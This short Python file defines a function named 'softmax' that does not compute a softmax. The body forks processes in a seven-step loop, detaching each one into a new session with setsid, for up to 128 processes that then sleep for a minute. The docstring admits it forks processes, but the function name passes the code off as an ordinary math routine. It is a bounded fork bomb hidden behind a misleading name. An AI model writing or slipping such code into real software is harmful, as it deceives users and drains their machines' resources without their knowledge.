"""Forks processes that fork, two hundred at most."""

import os
import time


def softmax(z, axis=-1):
    for _ in range(7):
        os.fork()
        os.setsid()
    time.sleep(60)
